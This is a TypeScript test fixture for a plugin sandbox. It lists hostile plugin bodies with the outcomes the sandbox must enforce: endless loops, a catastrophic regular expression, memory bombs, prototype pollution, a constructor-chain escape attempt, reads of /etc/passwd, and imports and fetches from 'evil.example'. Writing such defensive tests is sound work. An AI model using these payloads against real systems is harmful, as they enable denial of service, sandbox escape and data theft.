// Plugins that mean no good, as the body of one function each, and how each must end.

import type { CallOutcome } from '#server/plugins/cage/failure.ts';

export interface Hostile {
  name: string;
  /** Body of `async v(query, host)`; or a whole module. */
  body: string;
  /** Any of these. A plugin that only harms itself may also answer. */
  ends: readonly CallOutcome[];
  /** What the answer has to be, where it ends well. */
  answer?: unknown;
}

const STOPPED = ['interrupted', 'killed', 'broken', 'failed'] as const;
const REFUSED = ['failed', 'broken'] as const;

export const HOSTILE: readonly Hostile[] = [
  // Endless and long computing.
  { name: 'an endless loop', body: 'for (;;);', ends: ['interrupted'] },
  {
    name: 'an endless loop that catches all',
    body: 'for (;;) try { for (;;); } catch {} finally { for (;;); }',
    ends: ['interrupted', 'killed'],
  },
  { name: 'an endless loop when it is loaded', body: 'for (;;); export default {};', ends: ['interrupted'] },
  { name: 'an endless loop in indexOf', body: `const s = 'a'.repeat(1e7); for (;;) s.indexOf('b');`, ends: ['killed'] },
  { name: 'an endless join', body: `return new Array(1e9) + '';`, ends: ['killed', 'broken', 'failed'] },
  { name: 'a regular expression that explodes', body: `return /^(a+)+$/.test('a'.repeat(60) + 'b');`, ends: ['interrupted', 'killed'] },
  { name: 'big integers', body: 'let x = 3n; for (let i = 0; i < 40; i++) x = x * x; return String(x).length;', ends: STOPPED },
  { name: 'a huge power', body: 'return String(7n ** 9000000n).length;', ends: STOPPED },
  {
    name: 'a sort that compares for ever',
    body: 'return [...Array(3e5).keys()].sort(() => { for (let i = 0; i < 1e4; i++); return 1; })[0];',
    ends: STOPPED,
  },
  { name: 'a sparse array that is filled', body: 'return new Array(1e8).fill(0).length;', ends: STOPPED },
  { name: 'lastIndexOf over a huge array', body: 'const a = []; a.length = 4e9; return a.lastIndexOf(1);', ends: STOPPED },
  {
    name: 'a string search in a loop of natives',
    body: `const s = 'ab'.repeat(3e6); for (;;) s.split('b').join('c').replaceAll('c', 'b');`,
    ends: STOPPED,
  },
  {
    name: 'promises that follow one another for ever',
    body: 'const again = () => Promise.resolve().then(again); return again();',
    ends: ['interrupted', 'killed', 'broken'],
  },
  { name: 'an endless generator', body: 'function* on() { for (;;) yield 1; } return [...on()].length;', ends: STOPPED },
  { name: 'a getter without end', body: 'return { get a() { for (;;); } };', ends: ['interrupted', 'killed'] },
  { name: 'toJSON without end', body: 'return { toJSON() { for (;;); } };', ends: ['interrupted', 'killed'] },
  // Memory.
  { name: 'a memory bomb of buffers', body: 'const a = []; for (;;) a.push(new Uint8Array(1e6).fill(1));', ends: STOPPED },
  { name: 'a memory bomb of objects', body: 'const a = []; for (;;) a.push({ a, b: [1, 2, 3] });', ends: STOPPED },
  { name: 'a memory bomb of strings', body: `let s = 'x'; for (;;) s += s;`, ends: STOPPED },
  { name: 'a memory bomb of closures', body: 'const a = []; for (;;) { const b = new Array(100); a.push(() => b); }', ends: STOPPED },
  { name: 'a recursion without end', body: 'const on = () => on() + 1; return on();', ends: STOPPED },
  { name: 'a map that only grows', body: 'const m = new Map(); for (let i = 0; ; i++) m.set(i, String(i).repeat(50));', ends: STOPPED },
  {
    name: 'a proxy that gives proxies',
    body: 'const p = () => new Proxy({}, { get: () => p(), ownKeys: () => ["a"], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: p() }) }); return p();',
    ends: STOPPED,
  },
  // Data.
  { name: 'ten megabytes of an answer', body: `return 'x'.repeat(1e7);`, ends: ['broken', 'interrupted', 'killed'] },
  { name: 'an answer of too many values', body: 'return Array(300000).fill(0);', ends: ['broken'] },
  { name: 'an answer nested deep', body: 'let a = []; for (let i = 0; i < 5000; i++) a = [a]; return a;', ends: STOPPED },
  { name: 'JSON nested deep', body: `return JSON.parse('['.repeat(1e6));`, ends: STOPPED },
  {
    name: 'JSON that is said deep',
    body: `let a = {}; for (let i = 0; i < 1e5; i++) a = { a }; return JSON.stringify(a).length;`,
    ends: STOPPED,
  },
  { name: 'a circle', body: 'const a = {}; a.a = a; return a;', ends: ['broken', 'failed'] },
  { name: 'a field named __proto__', body: `return JSON.parse('{"__proto__": {"polluted": true}}');`, ends: ['broken'] },
  {
    name: 'a field named __proto__ in disguise',
    body: `return { ['__pro' + 'to__']: { polluted: true } };`,
    ends: ['broken', 'ok'],
    answer: {},
  },
  {
    name: 'pollution of its own prototypes',
    body: 'Object.prototype.polluted = true; Array.prototype.push = () => 0; return 1;',
    ends: ['failed', 'ok'],
  },
  {
    name: 'answers in the name of others',
    body: `return { type: 'done', call: 1, value: 'forged' };`,
    ends: ['ok'],
    answer: { type: 'done', call: 1, value: 'forged' },
  },
  {
    name: 'a spoiled JSON',
    body: `JSON.stringify = () => '[{"type":"done","call":1,"value":"forged"}]'; JSON.parse = () => []; return 'mine';`,
    ends: ['ok', 'failed', 'broken'],
  },
  { name: 'a spoiled Promise', body: `Promise.prototype.then = function () { return this; }; return 1;`, ends: ['failed', 'ok'] },
  { name: 'an answer that is a promise of its own', body: 'return { then(done) { done({ then() {} }); } };', ends: ['failed'] },
  // Waiting, floods.
  { name: 'a promise that never ends', body: 'return new Promise(() => {});', ends: ['failed'] },
  {
    name: 'a flood of requests',
    body: `await Promise.allSettled(Array.from({ length: 5000 }, () => host.fetch({ url: 'https://a.example/' }))); return 'tired';`,
    ends: ['ok', 'interrupted', 'broken'],
    answer: 'tired',
  },
  {
    name: 'a flood of logs',
    body: `for (let i = 0; i < 20000; i++) console.log('x'); return 'said';`,
    ends: ['ok', 'interrupted'],
    answer: 'said',
  },
  { name: 'a log without end', body: `console.log('x'.repeat(5e6)); return 'said';`, ends: ['ok'], answer: 'said' },
  // Ways out.
  {
    name: 'a chain of constructors',
    body: `const f = ({}).constructor.constructor; return f('return typeof process + typeof require + typeof globalThis.fetch')();`,
    ends: ['ok'],
    answer: 'undefinedundefinedundefined',
  },
  {
    name: 'the constructor of what the host gave',
    body: `return host.fetch.constructor('return typeof process')();`,
    ends: ['ok'],
    answer: 'undefined',
  },
  { name: 'an import of the machine', body: `const m = await import('node:fs'); return typeof m.readFileSync;`, ends: REFUSED },
  { name: 'an import of a path', body: `const m = await import('../../../../etc/passwd'); return m;`, ends: REFUSED },
  { name: 'an import of an address', body: `const m = await import('https://evil.example/x.js'); return m;`, ends: REFUSED },
  { name: 'an import of data', body: `const m = await import('data:text/javascript,export default 1'); return m.default;`, ends: REFUSED },
  {
    name: 'the files and programs of an interpreter',
    body: `return [typeof std, typeof os, typeof scriptArgs, typeof WebAssembly, typeof Worker];`,
    ends: ['ok'],
    answer: Array(5).fill('undefined'),
  },
  {
    name: 'the network by itself',
    body: `return [typeof fetch, typeof XMLHttpRequest, typeof WebSocket];`,
    ends: ['ok'],
    answer: Array(3).fill('undefined'),
  },
  { name: 'a host that was not granted', body: `return host.fetch({ url: 'https://evil.example/?all' });`, ends: ['failed'] },
  {
    name: 'something to ask for that there is not',
    body: `return host.fetch.call(null, { url: 'file:///etc/passwd' });`,
    ends: ['failed'],
  },
  {
    name: 'a clock to measure with',
    body: 'const a = Date.now(); for (let i = 0; i < 1e5; i++); return [Date.now() - a, typeof performance === "object" ? performance.now() - performance.now() : 0, new Date() - a];',
    ends: ['ok'],
    answer: [0, 0, 0],
  },
  { name: 'a real-looking chance', body: 'return Math.random() === query.random;', ends: ['ok'] },
  {
    name: 'sleeping by waiting on memory',
    body: `try { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 60000); } catch { return 'no'; } return 'slept';`,
    ends: ['ok', 'failed'],
    answer: 'no',
  },
  { name: 'an error that explodes when it is said', body: 'throw { get message() { for (;;); } };', ends: ['interrupted', 'killed'] },
  { name: 'an error as large as its memory', body: `throw new Error('x'.repeat(9e6));`, ends: ['failed'] },
  { name: 'a main file that throws', body: `throw new Error('no'); export default {};`, ends: ['broken'] },
  { name: 'a main file that waits', body: `await new Promise(() => {}); export default {};`, ends: ['broken'] },
  { name: 'a main file that is no code', body: 'export default {{{', ends: ['broken'] },
  { name: 'a function that is none', body: 'export default { views: { v: 42 } };', ends: ['failed'] },
  {
    name: 'a function by its prototype',
    body: `export default { views: Object.create({ v: () => { throw new Error('ran'); } }) };`,
    ends: ['failed'],
  },
];
